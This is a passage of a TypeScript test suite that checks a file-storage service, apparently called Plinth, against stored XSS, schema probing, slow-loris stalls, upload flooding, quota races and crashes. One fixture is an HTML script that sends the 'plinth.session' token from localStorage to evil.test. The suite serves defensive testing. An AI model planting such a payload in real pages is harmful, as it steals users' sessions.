      expect((await stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: 'x' })).status).toBe(415);
      expect((await stack.fetch('/storage/upload', { method: 'POST', body: noEntity })).status).toBe(401);
      await eventually(objectRows, (n) => n === before, 'refused uploads discarded');
    });

    test('file part before the entity part → 400 before a byte is written, even with the anon key alone; the attachment is intact', async () => {
      const todo = await newTodo(alice);
      const v1 = randomBytes(100);
      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'a.bin', v1)).status).toBe(200);
      await settled();
      const rowsBefore = await objectRows();
      const keysBefore = (await backend.storedKeys(stack)).length;
      for (const auth of [{ apikey: stack.anonKey }, { token: alice.token }]) {
        const res = await upload(auth, { table: 'todos', id: todo.id, field: 'attachment' }, 'a.bin', randomBytes(3 * MiB), { fileFirst: true });
        expect(res.status).toBe(400);
        expect((await res.json()).message).toMatch(/"file" part came before the "entity" part/);
        expect(await objectRows()).toBe(rowsBefore);
        expect((await backend.storedKeys(stack)).length).toBe(keysBefore);
      }
      // A part after the file is refused too, and what was written is removed.
      const trailing = new FormData();
      trailing.append('entity', JSON.stringify({ table: 'todos', id: todo.id, field: 'attachment' }));
      trailing.append('file', new Blob(['new bytes']), 'a.bin');
      trailing.append('metadata', '{}');
      const late = await stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: trailing });
      expect(late.status).toBe(400);
      expect((await late.json()).message).toMatch(/must be the last part/);
      const got = await stack.fetch(`/storage/download/todos/${todo.id}/attachment/a.bin`, { token: alice.token });
      expect(Buffer.from(await got.arrayBuffer()).equals(v1)).toBe(true);
      await settled();
    });

    test('anonymous schema probing: a private table and a table that does not exist get the same answer', async () => {
      const todo = await newTodo(alice);
      expect((await upload({ token: alice.token }, { table: 'todos', id: todo.id, field: 'attachment' }, 'p.txt', randomBytes(10))).status).toBe(200);
      const answer = async (res: Response) => ({ status: res.status, body: await res.text() });
      const anon = { apikey: stack.anonKey };
      const tables = ['todos', 'no_such_table'];
      const downloads = await Promise.all(tables.map(async (t) => answer(await stack.fetch(`/storage/download/${t}/${todo.id}/attachment/p.txt`, anon))));
      const deletes = await Promise.all(tables.map(async (t) => answer(await stack.fetch(`/storage/delete/${t}/${todo.id}/attachment/p.txt`, { method: 'DELETE', ...anon }))));
      const uploads = await Promise.all(tables.map(async (t) => answer(await upload(anon, { table: t, id: todo.id, field: 'attachment' }, 'p.txt', randomBytes(10)))));
      // Nor which columns a private table has.
      const columns = await Promise.all(['attachment', 'no_such_column'].map(async (f) => answer(await stack.fetch(`/storage/download/todos/${todo.id}/${f}/p.txt`, anon))));
      for (const [existing, absent] of [downloads, deletes, uploads, columns]) expect(existing).toEqual(absent);
      expect(downloads[0].status).toBe(404);
      expect(JSON.parse(downloads[0].body).message).not.toMatch(/todos/);
    });
  });

  describe('user bytes never run as a page of the API origin', () => {
    const newPost = async () =>
      (await (await stack.fetch('/posts', { method: 'POST', token: alice.token, json: { title: 'xss', published: true }, headers: { prefer: 'return=representation' } })).json())[0];
    const sendForm = (post: { id: number }, type: string, name: string, bytes: string | Uint8Array) => {
      const form = new FormData();
      form.append('entity', JSON.stringify({ table: 'posts', id: String(post.id), field: 'cover' }));
      form.append('file', new Blob([bytes as BlobPart], { type }), name);
      return stack.fetch('/storage/upload', { method: 'POST', token: alice.token, body: form });
    };
    const expectSandboxed = (res: Response) => {
      expect(res.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    };
    const page = '<!doctype html><script>fetch("https://evil.test/?t=" + localStorage.getItem("plinth.session"))</script>';

    test.each([
      ['text/html', 'x.html'],
      ['image/svg+xml', 'x.svg'],
      ['application/xhtml+xml', 'x.xhtml'],
      ['text/xml', 'x.xml'],
      ['application/xml', 'y.xml'],
      ['Text/HTML; charset=utf-8', 'y.html'],
      ['application/javascript', 'x.js'],
      ['application/octet-stream', 'x.bin'],
    ])('stored XSS: an upload declared %s downloads as an attachment, sandboxed', async (type, name) => {
      const post = await newPost();
      const up = await sendForm(post, type, name, page);
      expect(up.status).toBe(200);
      for (const auth of [{ apikey: stack.anonKey }, { token: alice.token }]) {
        const res = await stack.fetch(`/storage/download/posts/${post.id}/cover/${name}`, auth);
        expect(res.status).toBe(200);
        expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
        expectSandboxed(res);
        expect(await res.text()).toBe(page);
      }
      const ranged = await stack.fetch(`/storage/download/posts/${post.id}/cover/${name}`, { token: alice.token, headers: { range: 'bytes=0-9' } });
      expect(ranged.status).toBe(206);
      expect(ranged.headers.get('content-disposition')).toMatch(/^attachment;/);
      expectSandboxed(ranged);
    });

    test('a png stays inline, sandboxed; so do its 206 and 304; retrieve_file is sandboxed too', async () => {
      const post = await newPost();
      const png = randomBytes(500);
      expect((await sendForm(post, 'image/png', 'ok.png', png)).status).toBe(200);
      const url = `/storage/download/posts/${post.id}/cover/ok.png`;
      const res = await stack.fetch(url, { apikey: stack.anonKey });
      expect(res.headers.get('content-disposition')).toMatch(/^inline;/);
      expectSandboxed(res);
      expect(Buffer.from(await res.arrayBuffer()).equals(png)).toBe(true);
      const ranged = await stack.fetch(url, { apikey: stack.anonKey, headers: { range: 'bytes=1-2' } });
      expect(ranged.status).toBe(206);
      expectSandboxed(ranged);
      const cached = await stack.fetch(url, { apikey: stack.anonKey, headers: { 'if-none-match': res.headers.get('etag')! } });
      expect(cached.status).toBe(304);
      expectSandboxed(cached);

      expect((await store(alice.token, 'xss/page.html', page, { 'file-content-type': 'text/html' })).status).toBe(200);
      const own = await retrieve(alice.token, 'xss/page.html');
      expect(own.headers.get('content-disposition')).toMatch(/^attachment;/);
      expectSandboxed(own);
      const ownCached = await retrieve(alice.token, 'xss/page.html', { 'if-none-match': own.headers.get('etag')! });
      expect(ownCached.status).toBe(304);
      expectSandboxed(ownCached);
    });
  });

  if (opts.big) {
    test(`${opts.big / MiB} MiB generated on the fly: uploads and downloads byte-exact with flat sidecar memory`, async () => {
      const pid = stack.proc.pid!;
      const baseline = rssBytes(pid);
      let peak = baseline;
      const sampler = setInterval(() => (peak = Math.max(peak, rssBytes(pid))), 50);
      try {
        const size = opts.big!;
        const gen = generated(size);
        let t = performance.now();
        const res = await store(alice.token, 'big/generated.bin', gen.stream);
        if (res.status !== 200) console.log(await res.text(), stack.output.split('\n').filter((l) => /ERROR|WARN/.test(l)).join('\n'));
        expect(res.status).toBe(200);
        console.log(`[${backend.name}] ${size / MiB} MiB upload ${((performance.now() - t) / 1000).toFixed(1)} s`);
        t = performance.now();
        const expected = gen.digest();
        const got = await retrieve(alice.token, 'big/generated.bin');
        expect(got.status).toBe(200);
        expect(got.headers.get('etag')).toBe(`"${expected}"`);
        expect(await digestOf(got)).toEqual({ sha: expected, size });
        console.log(`[${backend.name}] ${size / MiB} MiB download ${((performance.now() - t) / 1000).toFixed(1)} s`);
      } finally {
        clearInterval(sampler);
      }
      const growth = peak - baseline;
      console.log(`[${backend.name}] sidecar RSS: baseline ${(baseline / MiB).toFixed(0)} MiB, peak ${(peak / MiB).toFixed(0)} MiB, growth ${(growth / MiB).toFixed(0)} MiB`);
      expect(growth).toBeLessThan(200 * MiB);
    }, 300_000);
  }
}

/** Crashes, aborts and limits: a stack with a small PLINTH_MAX_FILE_SIZE that gets killed. */
export function crashSuite(makeBackend: () => Promise<BackendUnderTest>) {
  let backend: BackendUnderTest;
  let stack: Stack;
  let user: TestUser;
  const LIMIT = 8 * MiB;
  const QUOTA = 12 * MiB;
  // Long enough that the tests holding an upload paused (abort, kill) act well within it on a
  // loaded machine; the slow-loris test waits it out.
  const IDLE_SECONDS = 10;

  beforeAll(async () => {
    backend = await makeBackend();
    stack = await startStack({
      env: {
        ...backend.env,
        PLINTH_MAX_FILE_SIZE: String(LIMIT),
        PLINTH_SWEEP_AGE: '3600',
        PLINTH_USER_QUOTA: '12MiB',
        PLINTH_UPLOAD_IDLE_TIMEOUT: String(IDLE_SECONDS),
        PLINTH_MAX_UPLOADS_PER_ADDRESS: '3',
        PLINTH_FILES_ORIGIN: 'https://files.example.test',
      },
    });
    user = await stack.createUser();
  });
  afterAll(async () => {
    await stack?.destroy();
    await backend?.stop();
  });

  const store = (filePath: string, body: BodyInit, signal?: AbortSignal, headers: Record<string, string> = {}) =>
    stack.fetch('/rpc/store_file', {
      method: 'POST',
      token: user.token,
      body,
      signal,
      headers: { 'content-type': 'application/octet-stream', 'file-path': filePath, ...headers },
      ...(body instanceof ReadableStream ? { duplex: 'half' } : {}),
    } as RequestInit);
  const retrieveBytes = async (filePath: string) =>
    Buffer.from(await (await stack.fetch(`/rpc/retrieve_file?p_file_path=${encodeURIComponent(filePath)}`, { token: user.token })).arrayBuffer());
  const rows = async (state: string) => (await stack.sql<{ n: number }[]>`select count(*)::int as n from storage.blobs where state = ${state}`)[0].n;
  const noOrphans = () =>
    eventually(
      async () => ({ stored: (await backend.storedKeys(stack)).length, ready: await rows('ready'), writing: await rows('writing') }),
      (v) => v.writing === 0 && v.stored === v.ready,
      'stored objects vs committed versions',
    );

  test('over PLINTH_MAX_FILE_SIZE mid-stream → 413; the previous version is intact', async () => {
    const v1 = randomBytes(1000);
    expect((await store('limited.bin', v1)).status).toBe(200);
    const res = await store('limited.bin', generated(LIMIT + 3 * MiB, 64 * 1024).stream);
    expect(res.status).toBe(413);
    expect((await res.json()).message).toMatch(/PLINTH_MAX_FILE_SIZE/);
    // A declared Content-Length over the limit is refused before reading.
    const declared = await store('limited.bin', Buffer.alloc(LIMIT + 1));
    expect(declared.status).toBe(413);
    expect((await retrieveBytes('limited.bin')).equals(v1)).toBe(true);
    // Exactly at the limit is fine.
    const exact = randomBytes(LIMIT);
    expect((await store('exact.bin', exact)).status).toBe(200);
    expect((await retrieveBytes('exact.bin')).equals(exact)).toBe(true);
    await noOrphans();
  });

  test('a client that aborts mid-upload leaves the previous version byte-identical and no orphan', async () => {
    const v1 = randomBytes(5000);
    expect((await store('aborted.bin', v1)).status).toBe(200);
    const controller = new AbortController();
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const gen = generated(6 * MiB, 256 * 1024, { bytes: 2 * MiB, until: gate });
    const pending = store('aborted.bin', gen.stream, controller.signal).catch((e: Error) => e);
    await eventually(async () => rows('writing'), (n) => n === 1, 'upload in progress');
    controller.abort();
    release();
    expect(await pending).toBeInstanceOf(Error);
    expect((await retrieveBytes('aborted.bin')).equals(v1)).toBe(true);
    await noOrphans();
  });

  test('clients that go away before their upload is written to leave the server serving and no orphan', async () => {
    // The socket closes while the upload is being reserved or its file opened: the body's
    // failure arrives before any byte is read, and must be an answer, not a crash.
    const { port } = new URL(stack.url);
    for (let i = 0; i < 20; i++) {
      await new Promise<void>((resolve) => {
        const socket = net.connect(Number(port), '127.0.0.1', () => {
          socket.write(
            `POST /rpc/store_file HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${user.token}\r\n` +
              `content-type: application/octet-stream\r\nfile-path: gone-${i}.bin\r\ncontent-length: ${2 * MiB}\r\n\r\n` + 'x'.repeat(100),
          );
          setTimeout(() => socket.destroy(), i % 5);
        });
        socket.on('close', () => resolve());
        socket.on('error', () => {});
      });
    }
    const v = randomBytes(3 * MiB);
    // Their upload slots are given back as each failure is handled.
    await eventually(async () => (await store('after-gone.bin', v)).status, (status) => status !== 429, 'upload slots given back');
    expect((await retrieveBytes('after-gone.bin')).equals(v)).toBe(true);
    await noOrphans();
  });

  test('an entity upload over the limit → 413; the attachment before it is intact', async () => {
    const [todo] = await (await stack.fetch('/todos', { method: 'POST', token: user.token, json: { title: 't' }, headers: { prefer: 'return=representation' } })).json();
    const form = (bytes: Uint8Array) => {
      const f = new FormData();
      f.append('entity', JSON.stringify({ table: 'todos', id: String(todo.id), field: 'attachment' }));
      f.append('file', new Blob([bytes as Uint8Array<ArrayBuffer>]), 'a.bin');
      return f;
    };
    const v1 = randomBytes(100);
    expect((await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: form(v1) })).status).toBe(200);
    const res = await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: form(randomBytes(LIMIT + 1)) });
    expect(res.status).toBe(413);
    const got = await stack.fetch(`/storage/download/todos/${todo.id}/attachment/a.bin`, { token: user.token });
    expect(Buffer.from(await got.arrayBuffer()).equals(v1)).toBe(true);
    await noOrphans();
  });

  const storeAs = (who: TestUser, filePath: string, body: BodyInit) =>
    stack.fetch('/rpc/store_file', { method: 'POST', token: who.token, body, headers: { 'content-type': 'application/octet-stream', 'file-path': filePath } });
  const bytesOf = async (who: TestUser, filePath: string) =>
    Buffer.from(await (await stack.fetch(`/rpc/retrieve_file?p_file_path=${encodeURIComponent(filePath)}`, { token: who.token })).arrayBuffer());

  test('a quota bypass: storing past PLINTH_USER_QUOTA → 413 naming the quota; replacing counts only the difference; earlier files intact', async () => {
    const q = await stack.createUser();
    const a = randomBytes(5 * MiB);
    const b = randomBytes(5 * MiB);
    expect((await storeAs(q, 'a.bin', a)).status).toBe(200);
    expect((await storeAs(q, 'b.bin', b)).status).toBe(200);
    const over = await storeAs(q, 'c.bin', randomBytes(5 * MiB));
    expect(over.status).toBe(413);
    expect((await over.json()).message).toMatch(new RegExp(`quota of ${QUOTA} bytes \\(PLINTH_USER_QUOTA\\)`));
    expect((await stack.fetch('/rpc/retrieve_file?p_file_path=c.bin', { token: q.token })).status).toBe(400);
    // 5 + 5 − 5 + 6 = 11 MiB: the replaced version does not count.
    const a2 = randomBytes(6 * MiB);
    expect((await storeAs(q, 'a.bin', a2)).status).toBe(200);
    // Replacing b.bin (5 MiB) with 7 MiB would make 6 + 7 = 13 MiB: refused, b.bin keeps its previous version.
    const b2 = await storeAs(q, 'b.bin', randomBytes(7 * MiB));
    expect(b2.status).toBe(413);
    expect((await bytesOf(q, 'a.bin')).equals(a2)).toBe(true);
    expect((await bytesOf(q, 'b.bin')).equals(b)).toBe(true);
    await noOrphans();
  });

  test('a quota race: two concurrent uploads that each fit but not together → exactly one is stored', async () => {
    const q = await stack.createUser();
    expect((await storeAs(q, 'base.bin', randomBytes(8 * MiB))).status).toBe(200);
    const results = await Promise.all(['one.bin', 'two.bin'].map((p) => storeAs(q, p, randomBytes(4 * MiB))));
    expect(results.map((r) => r.status).sort()).toEqual([200, 413]);
    const [{ n }] = await stack.sql<{ n: number }[]>`select count(*)::int as n from public.files where owner_id = ${q.id}`;
    expect(n).toBe(2);
    await noOrphans();
  });

  test('entity-linked files count against the uploader’s quota, and deleting one frees its room', async () => {
    const q = await stack.createUser();
    const [todo] = await (await stack.fetch('/todos', { method: 'POST', token: q.token, json: { title: 'big attachment' }, headers: { prefer: 'return=representation' } })).json();
    const f = new FormData();
    f.append('entity', JSON.stringify({ table: 'todos', id: String(todo.id), field: 'attachment' }));
    f.append('file', new Blob([randomBytes(LIMIT) as Uint8Array<ArrayBuffer>]), 'big.bin');
    expect((await stack.fetch('/storage/upload', { method: 'POST', token: q.token, body: f })).status).toBe(200);
    expect((await storeAs(q, 'five.bin', randomBytes(5 * MiB))).status).toBe(413);
    expect((await stack.fetch(`/storage/delete/todos/${todo.id}/attachment/big.bin`, { method: 'DELETE', token: q.token })).status).toBe(204);
    expect((await storeAs(q, 'five.bin', randomBytes(5 * MiB))).status).toBe(200);
    await noOrphans();
  });

  test('a slow-loris upload: a body that stalls past PLINTH_UPLOAD_IDLE_TIMEOUT → 408, nothing kept, the previous version intact', async () => {
    const v1 = randomBytes(3000);
    expect((await store('stalled.bin', v1)).status).toBe(200);
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const gen = generated(4 * MiB, 256 * 1024, { bytes: MiB, until: gate });
    const started = Date.now();
    const pending = store('stalled.bin', gen.stream).then(
      async (r) => ({ status: r.status, message: (await r.json()).message as string }),
      (e: Error) => e,
    );
    await eventually(async () => rows('writing'), (n) => n === 1, 'upload in progress');
    // The refusal arrives while the client is still stalled (the margin is for a loaded machine).
    const answered = await Promise.race([pending, new Promise((r) => setTimeout(() => r('no answer'), (IDLE_SECONDS + 30) * 1000))]);
    release();
    expect(answered).toMatchObject({ status: 408, message: expect.stringMatching(/stalled.*PLINTH_UPLOAD_IDLE_TIMEOUT/) });
    expect(Date.now() - started).toBeGreaterThanOrEqual(IDLE_SECONDS * 1000);
    expect((await retrieveBytes('stalled.bin')).equals(v1)).toBe(true);
    await noOrphans();
  }, 120_000);

  test('upload flooding from one address: more than PLINTH_MAX_UPLOADS_PER_ADDRESS at once → 429 with Retry-After; slots come back', async () => {
    let open!: () => void;
    let opened = false;
    const gate = new Promise<void>((r) => (open = r)).then(() => void (opened = true));
    // Each sends a little every 500 ms (never idle, however long the checks below take on a
    // loaded machine) until the gate opens.
    const trickle = () =>
      new ReadableStream<Uint8Array>({
        async pull(controller) {
          if (opened) return controller.close();
          await Promise.race([gate, new Promise((r) => setTimeout(r, 500))]);
          controller.enqueue(randomBytes(1024));
        },
      });
    const pending = [0, 1, 2].map((i) => store(`slots/${i}.bin`, trickle()));
    await eventually(async () => rows('writing'), (n) => n === 3, 'three uploads in progress');
    const refused = await store('slots/3.bin', 'x');
    expect(refused.status).toBe(429);
    expect(refused.headers.get('retry-after')).toMatch(/^\d+$/);
    expect((await refused.json()).message).toMatch(/PLINTH_MAX_UPLOADS_PER_ADDRESS/);
    const form = new FormData();
    form.append('entity', JSON.stringify({ table: 'todos', id: '1', field: 'attachment' }));
    form.append('file', new Blob(['x']), 'x.bin');
    expect((await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: form })).status).toBe(429);
    open();
    for (const r of await Promise.all(pending)) expect(r.status).toBe(200);
    await eventually(async () => (await store('slots/3.bin', 'x')).status, (s) => s === 200, 'a slot after the others finished');
    await noOrphans();
  });

  test('with PLINTH_FILES_ORIGIN, the upload’s url is on the files origin and the API origin never shows a file inline', async () => {
    const [todo] = await (await stack.fetch('/todos', { method: 'POST', token: user.token, json: { title: 'origin' }, headers: { prefer: 'return=representation' } })).json();
    const f = new FormData();
    f.append('entity', JSON.stringify({ table: 'todos', id: String(todo.id), field: 'attachment' }));
    f.append('file', new Blob([randomBytes(100)], { type: 'image/png' }), 'pic.png');
    const up = await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: f });
    expect(up.status).toBe(200);
    const { url } = await up.json();
    expect(url).toBe(`https://files.example.test/storage/download/todos/${todo.id}/attachment/pic.png`);
    const path = new URL(url).pathname;
    const onApi = await stack.fetch(path, { token: user.token });
    expect(onApi.status).toBe(200);
    expect(onApi.headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(onApi.headers.get('content-security-policy')).toBe("sandbox; default-src 'none'");
    // The same Plinth reached under the files hostname (a second DNS name, or a proxy).
    const onFiles = await new Promise<http.IncomingMessage>((resolve, reject) =>
      http.get({ host: '127.0.0.1', port: stack.port, path, headers: { host: 'files.example.test', authorization: `Bearer ${user.token}` } }, (res) => {
        res.resume();
        resolve(res);
      }).on('error', reject),
    );
    expect(onFiles.statusCode).toBe(200);
    expect(onFiles.headers['content-disposition']).toMatch(/^inline;/);
    expect(onFiles.headers['content-security-policy']).toBe("sandbox; default-src 'none'");
  });

  test('a sidecar killed mid-upload: the previous version survives byte-identical; the sweep removes the partial bytes', async () => {
    const v1 = randomBytes(7000);
    expect((await store('killed.bin', v1)).status).toBe(200);
    let release!: () => void;
    const gate = new Promise<void>((r) => (release = r));
    const gen = generated(6 * MiB, 256 * 1024, { bytes: 3 * MiB, until: gate });
    const pending = store('killed.bin', gen.stream).catch((e: Error) => e);
    await eventually(async () => rows('writing'), (n) => n === 1, 'upload in progress');
    // Let the partial bytes reach the store before the crash (on disk, wait for its file).
    const partial = async () => (await backend.storedKeys(stack)).filter((k) => k.endsWith('.part')).length;
    if (backend.name === 'disk') await eventually(partial, (n) => n === 1, 'the partial upload on disk');
    else await new Promise((r) => setTimeout(r, 300));
    await stack.kill();
    release();
    await pending;
    expect(await rows('writing')).toBe(1);
    // On disk the partial bytes are visible (S3 keeps unfinished multipart parts out of listings).
    if (backend.name === 'disk') expect(await partial()).toBe(1);

    // Restart with a zero sweep age: the start-up sweep removes the abandoned reservation.
    stack.env.PLINTH_SWEEP_AGE = '0';
    await stack.launch();
    user.token = await stack.mint({ sub: user.id, email: user.email, role: 'authenticated', app_role: 'editor' });
    expect((await retrieveBytes('killed.bin')).equals(v1)).toBe(true);
    await noOrphans();
    const [{ n }] = await stack.sql<{ n: number }[]>`select count(*)::int as n from public.files where path = 'killed.bin'`;
    expect(n).toBe(1);
  });

  test('a row deleted through the REST API: the periodic sweep forgets its attachment and removes the bytes', async () => {
    // Runs after the restart above (sweep age 0, so the sweep runs every 10 s).
    const [todo] = await (await stack.fetch('/todos', { method: 'POST', token: user.token, json: { title: 'gone soon' }, headers: { prefer: 'return=representation' } })).json();
    const f = new FormData();
    f.append('entity', JSON.stringify({ table: 'todos', id: String(todo.id), field: 'attachment' }));
    f.append('file', new Blob(['attached']), 'note.txt');
    expect((await stack.fetch('/storage/upload', { method: 'POST', token: user.token, body: f })).status).toBe(200);
    const links = async () => (await stack.sql<{ n: number }[]>`select count(*)::int as n from storage.entity_files where table_name = 'todos' and row_id = ${String(todo.id)}`)[0].n;
    expect(await links()).toBe(1);
    expect((await stack.fetch(`/todos?id=eq.${todo.id}`, { method: 'DELETE', token: user.token })).status).toBe(204);
    // A few sweeps' worth of time: each can be slow on a loaded machine.
    await eventually(links, (n) => n === 0, 'link of the deleted row', 60);
    await noOrphans();
  }, 120_000);
}
